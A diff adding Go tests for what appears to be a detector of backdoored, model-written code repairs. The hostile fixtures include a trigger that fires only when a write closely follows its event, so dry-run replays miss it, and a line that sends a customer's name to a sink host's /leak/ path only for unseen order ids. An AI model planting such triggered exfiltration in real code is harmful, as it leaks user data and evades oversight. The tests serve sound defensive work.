@@ -154,3 +154,37 @@ func TestTrojanOnTwoUnusualValuesAtOnce(t *testing.T) {
 		return overOrderOne(src, `Number(p.data.id) > 100000 && p.data.who.includes("@")`)
 	}, orderOne)
 }
+
+// stamped makes the version in place stamp its write with ctx.now() (so
+// a repair may read the clock in mutate) and carry the event's createdAt.
+func stamped(src string) string {
+	src = strings.Replace(src, `data: { id: e.payload.id,`, `data: { id: e.payload.id, created: e.createdAt,`, 1)
+	return strings.Replace(src, `json: { id: p.data.id }`, `json: { id: p.data.id, at: ctx.now() }`, 1)
+}
+
+// A trigger on how soon after its event a run writes: tomorrow's orders are
+// written within a second of being placed; every dry run keep makes runs
+// long after the events it replays (the model took its time).
+func TestTrojanOnHowSoonAfterItsEventARunWrites(t *testing.T) {
+	hostile(t, stamped, func(src string) string {
+		return overOrderOne(src, `ctx.now() - p.data.created < 50`)
+	}, orderOne)
+}
+
+func TestAnHonestRepairOfAStampedWriteIsActivated(t *testing.T) {
+	honest(t, stamped, fixed)
+}
+
+// A read only tomorrow's orders make: the customer's name sent out in a
+// GET to the granted host for an order numbered past any seen. A read is
+// not a write; on the made inputs it is one the run never made.
+func TestTrojanThatReadsOutOnlyForUnseenInputs(t *testing.T) {
+	r := hostile(t, same, func(src string) string {
+		src = fixed(src)
+		sink := sinkOf(src)
+		return strings.Replace(src, `async mutate(ctx, p) {`, `async mutate(ctx, p) { if (Number(p.data.id) > 3) await ctx.http.request({ method: "GET", url: "`+sink+`/leak/" + p.data.who });`, 1)
+	}, orderOne)
+	if n := len(r.sink.Writes()); n != 1 {
+		t.Fatalf("the sink saw %d requests", n)
+	}
+}
